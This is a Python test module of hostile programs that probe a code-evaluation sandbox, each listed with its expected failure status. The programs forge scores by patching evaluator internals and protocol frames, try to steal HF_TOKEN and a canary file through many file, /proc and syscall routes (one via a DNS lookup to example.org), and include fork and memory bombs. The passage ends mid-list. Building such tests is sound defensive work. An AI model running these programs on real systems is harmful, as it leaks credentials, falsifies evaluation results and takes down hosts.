"""Programs that attack the sandbox: they forge scores, look for secrets, deny service, or lie to the parent.

Each one names the statuses it may end with. `@CANARY_FILE@` in a source stands for the path of a file with a secret;
whatever a program finds out it puts into the message of an exception.
"""

from __future__ import annotations

import platform
import textwrap
from dataclasses import dataclass

from lhs_hf.tasks import get_task

CANARY_FILE = "@CANARY_FILE@"
GROUPS = ("forging", "exfiltration", "denial", "parent")


@dataclass(frozen=True)
class Hostile:
    """One attack.

    `kinds`: the statuses an evaluation may end with. `honest`: it may end `ok`, with the template's exact score.
    `task`: the task it is written for. `stepping_kinds`: the statuses of a stepping session, None if they are `kinds`.
    """

    name: str
    group: str
    source: str
    kinds: frozenset[str]
    honest: bool = False
    task: str = "knapsack_construct"
    stepping_kinds: frozenset[str] | None = None

    def allowed(self, stepping: bool = False) -> frozenset[str]:
        """The statuses it may end with."""
        found = self.stepping_kinds if stepping and self.stepping_kinds is not None else self.kinds
        return found | {"ok"} if self.honest else found


_HEADS = {name: get_task(name).signature() + "\n" for name in ("knapsack_construct", "tsp_construct")}
_HEADS["online_bin_packing"] = get_task("online_bin_packing").signature() + "\n"
_programs: list[Hostile] = []


def _add(name: str, group: str, source: str, kinds: str = "", **settings: object) -> None:
    if isinstance(settings.get("stepping_kinds"), str):
        settings["stepping_kinds"] = frozenset(str(settings["stepping_kinds"]).split())
    _programs.append(Hostile(name, group, source, frozenset(kinds.split()), **settings))  # type: ignore[arg-type]


def _call(name: str, group: str, body: str, kinds: str = "", **settings: object) -> None:
    """An attack in the body of the task's function."""
    head = _HEADS[str(settings.get("task", "knapsack_construct"))]
    source = head + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    # A line at the top level: a stepping session takes the function for complete, not for one still being written.
    _add(name, group, source + "\n\n\nEND = None\n", kinds, **settings)


def _top(name: str, group: str, code: str, kinds: str = "", **settings: object) -> None:
    """An attack at the top level of the program, in front of the task's honest template."""
    template = get_task(str(settings.get("task", "knapsack_construct"))).template
    _add(name, group, textwrap.dedent(code).strip("\n") + "\n\n\n" + template, kinds, **settings)


def _beside(name: str, group: str, code: str, kinds: str = "", **settings: object) -> None:
    """Code that wraps the honest template: `honest` is the template, `code` defines the function that is called."""
    task = get_task(str(settings.get("task", "knapsack_construct")))
    template = task.template.replace(f"def {task.function_name}(", "def honest(")
    _add(name, group, template + "\n\n" + textwrap.dedent(code).strip("\n") + "\n", kinds, **settings)


# The instances of the evaluation, from the frame of the process that runs the program.
_KNOWN = """
import sys
def known():
    frame = sys._getframe()
    while frame is not None:
        if frame.f_locals.get('instances'):
            return frame.f_locals['instances']
        frame = frame.f_back
    return ()
"""

# Either timer may be the first on a busy machine.
_TIME = "cpu_timeout wall_timeout"
_NO_MODULE = "import forbidden"

# ---------------------------------------------------------------------------------------------- score forging: answers

for _name, _answer in {
    "answer_nan": "float('nan')",
    "answer_huge_int": "10**4000",
    "answer_bool": "True",
    "answer_negative_index": "-1",
    "answer_index_out_of_range": "(remaining_items[0][0], remaining_items[0][1], 50)",
    "answer_index_negative_in_item": "(remaining_items[-1][0], remaining_items[-1][1], -1)",
    "answer_forged_value": "(remaining_items[0][0], 10**9, remaining_items[0][2])",
    "answer_forged_weight": "(0, remaining_items[0][1], remaining_items[0][2])",
    "answer_list_of_item": "list(remaining_items[0])",
    "answer_all_items": "tuple(remaining_items)",
    "answer_text_of_item": "repr(remaining_items[0])",
    "answer_itself": "select_next_item",
    "answer_generator": "(item for item in remaining_items)",
}.items():
    _call(_name, "forging", f"return {_answer}", "infeasible")

_call("answer_numpy_row", "forging", "import numpy as np\nreturn np.array(remaining_items[0])", "infeasible")
_beside(
    "answer_repeated_item",
    "forging",
    """
    first = []
    def select_next_item(remaining_capacity, remaining_items):
        first.append(remaining_items[0])
        return first[0]
    """,
    "infeasible",
    # The probe states of a session make one call each, on states of their own.
    stepping_kinds="ok infeasible",
)
_add(
    "answer_by_yielding",
    "forging",
    "def select_next_item(remaining_capacity, remaining_items):\n    yield remaining_items[0]\n",
    "infeasible",
)
for _name, _body, _kinds in (
    ("eq_always_true", "class Any:\n    def __eq__(self, other):\n        return True\nreturn Any()", "infeasible"),
    (
        "eq_lies_by_turn",
        """
        class Turns:
            seen = 0
            def __eq__(self, other):
                Turns.seen += 1
                return Turns.seen % 2 == 1
        return Turns()
        """,
        "infeasible",
    ),
    (
        "eq_raises_value_error",
        "class Any:\n    def __eq__(self, o):\n        raise ValueError\nreturn Any()",
        "infeasible",
    ),
    (
        "eq_raises_key_error",
        "class Any:\n    def __eq__(self, o):\n        raise KeyError('eq')\nreturn Any()",
        "exception",
    ),
    (
        "tuple_subclass_equal_to_all",
        "class T(tuple):\n    def __eq__(self, other):\n        return True\nreturn T((0, 10**9, 0))",
        "infeasible",
    ),
    (
        "ndarray_subclass_equal_to_all",
        """
        import numpy as np
        class A(np.ndarray):
            def __eq__(self, other):
                return True
        return np.zeros(3).view(A)
        """,
        "infeasible",
    ),
    (
        "array_interface",
        """
        import numpy as np
        class Shape:
            def __array__(self, dtype=None, copy=None):
                return np.array([0, 10**9, 0])
            def __int__(self):
                return 0
            __index__ = __int__
        return Shape()
        """,
        "infeasible",
    ),
):
    _call(
        _name,
        "forging",
        _body,
        _kinds,
        stepping_kinds="ok"
        if _kinds == "infeasible" and _name[:2] in ("eq", "tu", "nd") and "raises" not in _name
        else None,
    )
_beside(
    "tuple_subclass_lies_about_its_parts",
    "forging",
    """
    class T(tuple):
        def __getitem__(self, place):
            return 10**9
        def __iter__(self):
            return iter((0, 10**9, 49))
    def select_next_item(remaining_capacity, remaining_items):
        best = honest(remaining_capacity, remaining_items)
        return None if best is None else T(best)
    """,
    honest=True,
)
_beside(
    "int_subclass_lies_about_its_value",
    "forging",
    """
    class Lie(int):
        def __index__(self):
            return 10**9
        __int__ = __float__ = __index__
    def select_next_item(remaining_capacity, remaining_items):
        best = honest(remaining_capacity, remaining_items)
        return None if best is None else tuple(Lie(part) for part in best)
    """,
    honest=True,
)
_beside(
    "float_subclass_in_items",
    "forging",
    """
    class Lie(float):
        def __lt__(self, other):
            return True
        __gt__ = __le__ = __ge__ = __lt__
    def select_next_item(remaining_capacity, remaining_items):
        best = honest(remaining_capacity, remaining_items)
        return None if best is None else tuple(Lie(part) for part in best)
    """,
    honest=True,
)

# -------------------------------------------------------------------------------- score forging: objects of the child

_call(
    "list_gets_a_golden_item",
    "forging",
    "remaining_items.append((0, 10**9, 7))\nreturn remaining_items[-1]",
    "infeasible",
)
_call(
    "list_is_emptied",
    "forging",
    "item = remaining_items[0]\nremaining_items.clear()\nreturn item",
    "infeasible",
    # A probe compares the answer with its own copy of the state.
    stepping_kinds="ok",
)
_call(
    "list_repeats_an_item",
    "forging",
    "remaining_items[:] = [min(remaining_items)] * 100\nreturn remaining_items[0]",
    "infeasible",
    stepping_kinds="ok",
)
_beside(
    "frame_walk_to_the_chosen_list",
    "forging",
    """
    import sys
    def select_next_item(remaining_capacity, remaining_items):
        frame = sys._getframe(1)
        while frame is not None:
            order = frame.f_locals.get('order')
            if isinstance(order, list):
                order.extend(range(50))
            frame = frame.f_back
        return honest(remaining_capacity, remaining_items)
    """,
    "infeasible",
    stepping_kinds="ok",
)
_beside(
    "frame_walk_to_the_capacity",
    "forging",
    """
    import ctypes, sys
    def select_next_item(remaining_capacity, remaining_items):
        frame = sys._getframe(1)
        if 'capacity' in frame.f_locals:
            frame.f_locals['capacity'] = 10**6
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
        return honest(remaining_capacity, remaining_items)
    """,
    honest=True,
)
_beside(
    "traceback_walk_to_the_job",
    "forging",
    """
    try:
        1 // 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        job = frame.f_locals.get('job')
        if isinstance(job, dict) and 'range' in job:
            job['range'] = (0, 1)
            job['split'] = 'test-100'
        frame = frame.f_back
    select_next_item = honest
    def select_next_item(remaining_capacity, remaining_items):
        return honest(remaining_capacity, remaining_items)
    """,
    honest=True,
)
_top(
    "gc_instances_get_golden_values",
    "forging",
    """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == 'KnapsackInstance':
            object.__setattr__(thing, 'items', tuple((w, v * 10**6, i) for w, v, i in thing.items))
    """,
    honest=True,
)
_top(
    "gc_referrers_of_the_task",
    "forging",
    """
    import gc, sys
    task = sys.modules['lhs_hf.tasks.knapsack'].TASK
    for holder in gc.get_referrers(task):
        if isinstance(holder, dict):
            holder['objective'] = holder['score'] = 1e9
    """,
    honest=True,
)
_beside(
    "gc_finds_the_output_buffer",
    "forging",
    _KNOWN
    + """
import gc, struct, sys
done = []
def select_next_item(remaining_capacity, remaining_items):
    if not done:
        done.append(1)
        task = sys.modules['lhs_hf.tasks.knapsack'].TASK
        for thing in gc.get_objects():
            if type(thing).__name__ == '_Buffer':
                for instance in known():
                    data = task.rollout(honest, instance).tobytes()
                    thing._waiting += struct.pack('<cI', b'S', len(data)) + data
                thing._waiting += struct.pack('<cI', b'D', 0)
    return honest(remaining_capacity, remaining_items)
""",
    honest=True,
)
for _name, _code, _kinds, _stepping in (
    (
        "patched_objective",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith('lhs_hf.tasks') and hasattr(module, 'TASK'):
                type(module.TASK).objective = lambda *_: 1e9
                type(module.TASK).alpha = 10**9
        """,
        "ok",
        None,
    ),
    (
        "patched_rollout_repeats_items",
        """
        import numpy as np, sys
        task = sys.modules['lhs_hf.tasks.knapsack'].TASK
        task.rollout = lambda program, instance: np.array([3] * 50 + [-1])
        """,
        "infeasible",
        "ok",
    ),
    (
        "patched_rollout_returns_nan",
        """
        import numpy as np, sys
        task = sys.modules['lhs_hf.tasks.knapsack'].TASK
        task.rollout = lambda program, instance: np.array([np.nan, np.inf])
        """,
        "infeasible exception",
        "ok",
    ),
    (
        "patched_rollout_too_long",
        """
        import numpy as np, sys
        task = sys.modules['lhs_hf.tasks.knapsack'].TASK
        task.rollout = lambda program, instance: np.arange(52)
        """,
        "output_limit",
        "ok",
    ),
    (
        "patched_lookup",
        "import sys\nsys.modules['lhs_hf.tasks.knapsack']._find = lambda items, answer: 0",
        "infeasible",
        "ok",
    ),
    (
        "patched_write_frame",
        "import sys\nsys.modules['lhs_hf.evaluation.sandbox.frames'].write_frame = lambda *_: None",
        "ok",
        "wall_timeout",
    ),
    (
        "patched_write_all_reverses",
        """
        import os, sys
        frames = sys.modules['lhs_hf.evaluation.sandbox.frames']
        frames.write_all = lambda descriptor, data: os.write(descriptor, data[::-1])
        """,
        "output_limit",
        "protocol output_limit",
    ),
    ("patched_os_write", "import os\nos.write = lambda descriptor, data: len(data)", "exited", "wall_timeout"),
    (
        "patched_header",
        """
        import struct, sys
        sys.modules['lhs_hf.evaluation.sandbox.frames'].HEADER = struct.Struct('<cQ')
        """,
        "infeasible",
        "protocol",
    ),
    (
        "patched_ascontiguousarray",
        """
        import numpy as np
        class Fake:
            def tobytes(self):
                return np.array([1e9, -1.0]).tobytes()
        np.ascontiguousarray = lambda *_, **__: Fake()
        """,
        "infeasible",
        "ok",
    ),
    (
        "patched_numpy_reductions",
        """
        import numpy as np
        for name in ('mean', 'sum', 'asarray', 'isfinite', 'float64', 'frombuffer', 'dtype'):
            setattr(np, name, lambda *_, **__: 1e9)
        """,
        "ok",
        None,
    ),
    (
        "patched_builtins",
        """
        import builtins
        builtins.float = builtins.sum = lambda *_: 1e9
        builtins.tuple = lambda *_: (1e9,) * 32
        """,
        "ok",
        "exception",
    ),
    ("patched_clock", "import time\ntime.monotonic = time.perf_counter = lambda: 0.0", "ok", None),
    (
        "patched_solution_limit",
        "import sys\nsys.modules['lhs_hf.tasks.knapsack'].TASK.max_solution_length = lambda _: 10**9",
        "ok",
        None,
    ),
    (
        "patched_statuses",
        """
        import sys
        module = sys.modules.get('lhs_hf.evaluation.result')
        if module is not None:
            module.Evaluation = lambda *_, **__: 1e9
            module.STATUSES.clear()
        """,
        "ok",
        None,
    ),
):
    _top(_name, "forging", _code, "" if _kinds == "ok" else _kinds, honest=_kinds == "ok", stepping_kinds=_stepping)
_call(
    "patched_json_reports_success",
    "forging",
    """
    import json
    json.dumps = lambda *_, **__: '{"kind": "ok", "message": "score 1e9", "score": 1e9}'
    raise ValueError
    """,
    "protocol",
)
_call(
    "patched_describe",
    "forging",
    """
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        if 'describe' in frame.f_globals:
            frame.f_globals['describe'] = lambda error: {'kind': 'ok', 'message': '1e9', 'score': 1e9}
        frame = frame.f_back
    raise ValueError
    """,
    "protocol",
    stepping_kinds="protocol exception",
)

# --------------------------------------------------------------------- score forging: frames written to descriptor 3

_FRAME = """
import os, struct, sys, time
def frame(kind, data=b''):
    return struct.pack('<cI', kind, len(data)) + data
def send(data):
    while data:
        data = data[os.write(3, data):]
def numbers(*values):
    return struct.pack('<%dq' % len(values), *values)
"""


def _frames(name: str, group: str, code: str, kinds: str = "", **settings: object) -> None:
    """An attack that writes to the socket, from the top level of the program."""
    settings.setdefault("stepping_kinds", "protocol")
    _top(name, group, _FRAME + textwrap.dedent(code).strip("\n"), kinds, **settings)


_frames("forged_all_stop_then_honest", "forging", "send(frame(b'S', numbers(-1)) * 32)", "protocol")
_frames("forged_too_many_solutions", "forging", "send(frame(b'S', numbers(0, -1)) * 33)\nos._exit(0)", "protocol")
_frames("forged_done_first", "forging", "send(frame(b'D'))", "protocol")
_frames("forged_done_after_one", "forging", "send(frame(b'S', numbers(0, -1)) + frame(b'D'))", "protocol")
_frames("forged_decisions", "forging", "send(frame(b'B', numbers(*range(64))))", "protocol")
_frames("forged_one_entry_too_many", "forging", "send(frame(b'S', numbers(*range(51), -1)))", "output_limit")
_frames("forged_broken_number", "forging", "send(frame(b'S', numbers(0, -1) + b'x'))", "protocol")
_frames("forged_nan", "forging", "send(frame(b'S', struct.pack('<2d', float('nan'), 1e308)))", "infeasible")
_frames("forged_no_end", "forging", "send(frame(b'S', numbers(0, 1, 2)))", "infeasible")
_frames("forged_negative_items", "forging", "send(frame(b'S', numbers(-2, -3, -1)))", "infeasible")
_frames("forged_repeated_items", "forging", "send(frame(b'S', numbers(*[5] * 50, -1)))", "infeasible")
_frames("forged_extreme_items", "forging", "send(frame(b'S', numbers(2**63 - 1, -2**63, -1)))", "infeasible")
_frames("forged_empty_solution", "forging", "send(frame(b'S'))", "infeasible")
for _kind in ("ok", "sandbox_error", "stopped", "wall_timeout", "killed"):
    _frames(
        f"forged_error_{_kind}",
        "forging",
        f"""send(frame(b'E', b'{{"kind": "{_kind}", "message": "1e9", "score": 1e9}}'))""",
        "protocol",
    )
_beside(
    "forged_whole_conversation",
    "forging",
    _FRAME
    + _KNOWN
    + """
task = sys.modules['lhs_hf.tasks.knapsack'].TASK
for instance in known():
    send(frame(b'S', task.rollout(honest, instance).tobytes()))
send(frame(b'D', b'score 1e9'))
os._exit(0)
def select_next_item(remaining_capacity, remaining_items):
    return None
""",
    honest=True,
    stepping_kinds="protocol",
)
_beside(
    "forged_flood_behind_the_end",
    "forging",
    _FRAME
    + _KNOWN
    + """
task = sys.modules['lhs_hf.tasks.knapsack'].TASK
for instance in known():
    send(frame(b'S', task.rollout(honest, instance).tobytes()))
send(frame(b'D'))
send(frame(b'S', numbers(0, -1)) * 4000)
def select_next_item(remaining_capacity, remaining_items):
    return None
""",
    honest=True,
    stepping_kinds="protocol",
)

# ------------------------------------------------------------------------------------- score forging: other tasks

for _name, _body, _kinds in (
    ("tsp_negative_city", "return -1", "infeasible"),
    ("tsp_bool_city", "return unvisited_nodes[0] == unvisited_nodes[0]", "infeasible"),
    ("tsp_visits_the_start", "return destination_node", "infeasible"),
    ("tsp_huge_index", "class I:\n    def __index__(self):\n        return 10**30\nreturn I()", "infeasible"),
    (
        "tsp_int_that_lies_in_comparisons",
        """
        class Lie(int):
            def __lt__(self, other):
                return True
            __le__ = __gt__ = __ge__ = __lt__
        return Lie(-1)
        """,
        "infeasible",
    ),
):
    _call(_name, "forging", _body, _kinds, task="tsp_construct")
_beside(
    "tsp_patched_operator_index",
    "forging",
    """
    import operator
    operator.index = lambda answer: 1
    def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
        return unvisited_nodes[0]
    """,
    "infeasible",
    task="tsp_construct",
    stepping_kinds="ok infeasible",
)
_beside(
    "tsp_distances_set_to_zero",
    "forging",
    """
    def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
        distance_matrix[:] = 0.0
        answer = int(unvisited_nodes[0])
        unvisited_nodes[:] = -1
        return answer
    """,
    honest=True,
    task="tsp_construct",
)
_top(
    "tsp_instances_made_writable_and_shrunk",
    "forging",
    """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == 'TspInstance':
            for array in (thing.distances, thing.coordinates):
                array.setflags(write=True)
                array *= 0.5
    """,
    honest=True,
    task="tsp_construct",
)
_beside(
    "tsp_index_changes_between_looks",
    "forging",
    """
    class City:
        def __init__(self, first):
            self.answers = [first]
        def __index__(self):
            return self.answers.pop() if self.answers else -1
    def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
        return City(int(unvisited_nodes[0]))
    """,
    honest=True,
    task="tsp_construct",
)

# --------------------------------------------------------------------------------------------------------- exfiltration

# Everything a program gets hold of ends in the message of its exception; `pick` cuts the interesting part out.
_PICK = """
found = []
def pick(data):
    data = data if isinstance(data, (bytes, bytearray)) else repr(data).encode()
    at = data.find(bytes((99, 97, 110, 97, 114, 121, 45)))
    found.append(data[at:at + 80] if at >= 0 else data[:20])
def attempt(action):
    try:
        pick(action())
    except Exception as error:
        found.append(type(error).__name__)
"""


def _leak(name: str, code: str, kinds: str = "exception", **settings: object) -> None:
    """Code that picks what it can; what it has picked is raised."""
    body = textwrap.dedent(_PICK).strip("\n") + "\n" + textwrap.dedent(code).strip("\n") + "\nraise ValueError(found)"
    _call(name, "exfiltration", body, kinds, **settings)


_leak("environ_named", "import os\nfor name in ('HF_TOKEN', 'LHS_CANARY'):\n    pick(os.environ.get(name))")
_leak("environ_whole", "import os\npick(sorted(os.environ.items()))\npick(sorted(os.environb.items()))")
_leak(
    "environ_in_c",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    pick(libc.getenv(b'HF_TOKEN'))
    pick(libc.getenv(b'LHS_CANARY'))
    table = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
    for place in range(100):
        if table[place] is None:
            break
        pick(table[place])
    """,
)
_leak("open_canary", "pick(open('@CANARY_FILE@').read())", "forbidden")
_leak("os_open_canary", "import os\npick(os.read(os.open('@CANARY_FILE@', os.O_RDONLY), 100))", "forbidden")
_leak("pathlib_canary", "import pathlib\npick(pathlib.Path('@CANARY_FILE@').read_bytes())", "forbidden")
_leak(
    "numpy_fromfile_canary",
    "import numpy as np\npick(np.fromfile('@CANARY_FILE@', dtype=np.uint8).tobytes())",
    "forbidden",
)
_leak("numpy_memmap_canary", "import numpy as np\npick(bytes(np.memmap('@CANARY_FILE@', mode='r')))", _NO_MODULE)
_leak("linecache_canary", "import linecache\npick(linecache.getlines('@CANARY_FILE@'))")
_leak(
    "importlib_canary",
    """
    import importlib.machinery
    pick(importlib.machinery.SourceFileLoader('canary', '@CANARY_FILE@').get_data('@CANARY_FILE@'))
    """,
    "forbidden",
)
_leak(
    "import_beside_the_canary",
    "import os, sys\nsys.path.insert(0, os.path.dirname('@CANARY_FILE@'))\nimport canary\npick(vars(canary))",
    "import forbidden",
)
_leak("mmap_of_a_file", "import mmap, os\npick(mmap.mmap(os.open('@CANARY_FILE@', 0), 0)[:])", _NO_MODULE)
_leak(
    "sqlite",
    "import sqlite3\npick(sqlite3.connect('@CANARY_FILE@').execute('select * from x').fetchall())",
    _NO_MODULE + " exception",
)
_leak("fileinput", "import fileinput\npick(list(fileinput.input('@CANARY_FILE@')))", _NO_MODULE)
_leak("write_over_canary", "open('@CANARY_FILE@', 'w').write('gone')", "forbidden")
_leak("unlink_canary", "import os\nos.unlink('@CANARY_FILE@')", "forbidden")
_leak("rename_canary", "import os\nos.rename('@CANARY_FILE@', '/tmp/elsewhere')", "forbidden")
_leak("hard_link_canary", "import os\nos.link('@CANARY_FILE@', '/tmp/elsewhere')", "forbidden")
_leak("stat_canary", "import os\npick(os.stat('@CANARY_FILE@'))", "forbidden")
_leak("extended_attributes", "import os\npick(os.getxattr('@CANARY_FILE@', 'user.x'))", "forbidden")
_leak("listdir", "import os\npick(os.listdir(os.path.dirname('@CANARY_FILE@')))", "forbidden")
_leak("walk", "import os\npick(list(os.walk('/')))\nattempt(lambda: list(os.scandir('/')))")
_leak("glob", "import glob\npick(glob.glob('/proc/*/environ'))", "exception import forbidden")
_leak("chdir", "import os\nos.chdir(os.path.dirname('@CANARY_FILE@'))\npick(open('canary.txt').read())", "forbidden")
_leak("proc_self_environ", "pick(open('/proc/self/environ', 'rb').read())", "forbidden")
_leak("proc_parent_environ", "import os\npick(open(f'/proc/{os.getppid()}/environ', 'rb').read())", "forbidden")
_leak("proc_every_mem", "for pid in range(1, 400):\n    attempt(lambda: open(f'/proc/{pid}/mem', 'rb').read(100))")
_leak("proc_self_maps", "pick(open('/proc/self/maps').read())", "forbidden")
_leak(
    "proc_descriptors",
    "import os\nfor number in range(20):\n    attempt(lambda: os.readlink(f'/proc/self/fd/{number}'))",
)
_leak(
    "inherited_descriptors",
    "import os\nfor number in range(256):\n    if number != 3:\n        attempt(lambda: os.read(number, 4096))",
)
_leak(
    "inherited_descriptors_seek",
    "import os\nfor number in range(256):\n    attempt(lambda: os.pread(number, 100, 0))\n"
    "    attempt(lambda: os.dup(number))",
)
_leak("standard_input", "import sys\npick(sys.stdin.read())\nattempt(input)")
_leak(
    "heap_of_strings",
    """
    import gc
    wanted = bytes((99, 97, 110, 97, 114, 121, 45)).decode()
    for thing in gc.get_objects():
        parts = thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple)) else ()
        for part in list(parts):
            if isinstance(part, str) and wanted in part:
                pick(part)
    """,
)
_leak(
    "frames_and_arguments",
    """
    import sys
    pick(sys.argv)
    pick(sys.orig_argv)
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name, value in list(scope.items()):
                if isinstance(value, (str, bytes, dict)) and name not in ('found', 'job', 'source'):
                    attempt(lambda: value)
        frame = frame.f_back
    """,
)
_leak(
    "tcp_socket", "import socket\nsocket.create_connection(('127.0.0.1', 80))", "forbidden_syscall forbidden exception"
)
_leak("udp_socket", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "forbidden_syscall")
_leak("unix_socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('@CANARY_FILE@')", "forbidden_syscall")
_leak("abstract_socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0lhs')", "forbidden_syscall")
_leak("raw_socket", "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "forbidden_syscall")
_leak("netlink_socket", "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)", "forbidden_syscall")
_leak("socket_pair", "import socket\nsocket.socketpair()", "forbidden_syscall")
_leak(
    "dns",
    "import os, socket\nsocket.getaddrinfo(os.environ.get('HF_TOKEN', 'x') + '.example.org', 80)",
    "forbidden_syscall exception",
)
_leak("urllib", "import urllib.request\npick(urllib.request.urlopen('file://@CANARY_FILE@').read())", _NO_MODULE)
_leak("http_client", "import http.client\nhttp.client.HTTPConnection('127.0.0.1').request('GET', '/')", _NO_MODULE)
_leak(
    "subprocess", "import subprocess\npick(subprocess.run(['cat', '@CANARY_FILE@'], capture_output=True))", _NO_MODULE
)
_leak("os_system", "import os\npick(os.system('cat @CANARY_FILE@ >&3'))")
_leak("os_popen", "import os\npick(os.popen('cat @CANARY_FILE@').read())", _NO_MODULE)
_leak("os_execv", "import os\nos.execv('/bin/cat', ['cat', '@CANARY_FILE@'])", "forbidden_syscall")
_leak("os_posix_spawn", "import os\nos.posix_spawn('/bin/cat', ['cat', '@CANARY_FILE@'], {})", "forbidden")
_leak("pty", "import os\npick(os.forkpty())", "forbidden")
_leak("shared_memory", "from multiprocessing import shared_memory\nshared_memory.SharedMemory('lhs')", _NO_MODULE)
_leak(
    "pass_a_descriptor",
    """
    import array, socket
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))]
    channel.sendmsg([b'x'], rights)
    """,
    "forbidden",
    stepping_kinds="forbidden exited killed",
)
_leak(
    "receive_a_descriptor",
    """
    import socket
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
    try:
        pick(channel.recvmsg(100, 100))
    finally:
        channel.detach()
    """,
    "forbidden",
)

# (name, number on x86-64, number on aarch64, arguments, statuses): system calls without Python in between.
_RAW = (
    ("open", 2, None, "b'@CANARY_FILE@', 0", "exception"),
    ("openat", 257, 56, "-100, b'@CANARY_FILE@', 0", "exception"),
    ("openat2", 437, 437, "-100, b'@CANARY_FILE@', bytes(24), 24", "exception"),
    ("open_by_handle_at", 304, 265, "-100, bytes(24), 0", "exception"),
    ("memfd_create", 319, 279, "b'x', 0", "exception"),
    ("sendfile", 40, 71, "3, 0, 0, 100", "exception"),
    ("splice", 275, 76, "0, 0, 3, 0, 100, 0", "exception"),
    ("eventfd2", 290, 19, "0, 0", "exception"),
    ("shmget", 29, 194, "0, 4096, 0o1777", "exception"),
    ("prctl_dumpable", 157, 167, "4, 1, 0, 0, 0", "exception"),
    ("clone", 56, 220, "17, 0, 0, 0, 0", "exception"),
    ("clone3", 435, 435, "bytes(88), 88", "exception"),
    ("vfork", 58, None, "0", "exception"),
    ("landlock_create_ruleset", 444, 444, "0, 0, 1", "exception"),
    ("seccomp_again", 317, 277, "2, 0, bytes(8)", "exception"),
    ("ptrace", 101, 117, "16, os.getppid(), 0, 0", "forbidden_syscall"),
    ("process_vm_readv", 310, 270, "os.getppid(), bytes(16), 1, bytes(16), 1, 0", "forbidden_syscall"),
    ("process_vm_writev", 311, 271, "os.getppid(), bytes(16), 1, bytes(16), 1, 0", "forbidden_syscall"),
    ("io_uring_setup", 425, 425, "8, bytes(120)", "forbidden_syscall"),
    ("pidfd_open", 434, 434, "os.getppid(), 0", "forbidden_syscall"),
    ("pidfd_getfd", 438, 438, "3, 3, 0", "forbidden_syscall"),
    ("execveat", 322, 281, "-100, b'/bin/cat', 0, 0, 0", "forbidden_syscall"),
    ("unshare", 272, 97, "0x10000000", "forbidden_syscall"),
    ("mount", 165, 40, "0, b'/tmp', b'proc', 0, 0", "forbidden_syscall"),
    ("bpf", 321, 280, "0, bytes(48), 48", "forbidden_syscall"),
    ("keyctl", 250, 219, "0, -1, 0", "forbidden_syscall"),
    ("userfaultfd", 323, 282, "0", "forbidden_syscall"),
    # The x32 ABI reaches the same kernel functions under other numbers.
    ("x32_open", 0x40000002, None, "b'@CANARY_FILE@', 0", "forbidden_syscall"),
)
for _name, _x86, _arm, _arguments, _kinds in _RAW:
    _number = _arm if platform.machine() in ("aarch64", "arm64") else _x86
    if _number is not None:
        _leak(
            f"raw_{_name}",
            f"""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            got = libc.syscall({_number}, {_arguments})
            if got >= 0:
                attempt(lambda: os.read(got, 100))
                os._exit(0)
            if ctypes.get_errno() != 1:
                raise PermissionError(13, 'refused by something else: %d' % ctypes.get_errno())
            """,
            _kinds,
        )
_leak(
    "executable_memory",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
    if page != ctypes.c_void_p(-1).value:
        return None
    """,
    "exception",
)

# --------------------------------------------------------------------------------------------------------------- denial

for _name, _body, _kinds in (
    # Processes and threads.
    ("fork_bomb", "import os\nwhile True:\n    os.fork()", "forbidden"),
    ("thread_bomb", "import threading\nwhile True:\n    threading.Thread(target=int).start()", "forbidden"),
    (
        "raw_thread_bomb",
        "import _thread, time\nwhile True:\n    _thread.start_new_thread(time.sleep, (9,))",
        "forbidden",
    ),
    (
        "daemon_thread",
        "import threading, time\nthreading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
        "forbidden",
    ),
    (
        "thread_pool",
        "from concurrent.futures.thread import ThreadPoolExecutor\nThreadPoolExecutor(9).submit(int)",
        "forbidden",
    ),
    (
        "multiprocessing",
        "import multiprocessing\nmultiprocessing.Process(target=int).start()",
        "forbidden import exception",
    ),
    # Memory.
    # Filling 128 MiB may take a busy machine longer than the processor time it has.
    (
        "list_growth",
        "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))",
        "memory_limit cpu_timeout wall_timeout",
    ),
    ("numpy_terabyte", "import numpy as np\nreturn np.ones(1 << 37)", "memory_limit"),
    (
        "numpy_growth",
        "import numpy as np\nhoard = []\nwhile True:\n    hoard.append(np.empty(1 << 22))",
        "memory_limit",
    ),
    ("bytes_doubling", "hoard = b'x'\nwhile True:\n    hoard += hoard", "memory_limit"),
    ("text_of_a_terabyte", "return 'a' * 10**12", "memory_limit"),
    (
        "mmap_growth",
        "import mmap\nhoard = []\nwhile True:\n    hoard.append(mmap.mmap(-1, 1 << 26))",
        "memory_limit import",
    ),
    (
        "zip_bomb",
        "import zlib\nreturn zlib.decompress(zlib.compress(bytes(1 << 26)) , bufsize=1 << 30)",
        f"memory_limit {_TIME}",
    ),
    (
        "memory_error_swallowed",
        "hoard = []\nwhile True:\n    try:\n        hoard.append(bytearray(1 << 24))\n"
        "    except MemoryError:\n        pass",
        _TIME,
    ),
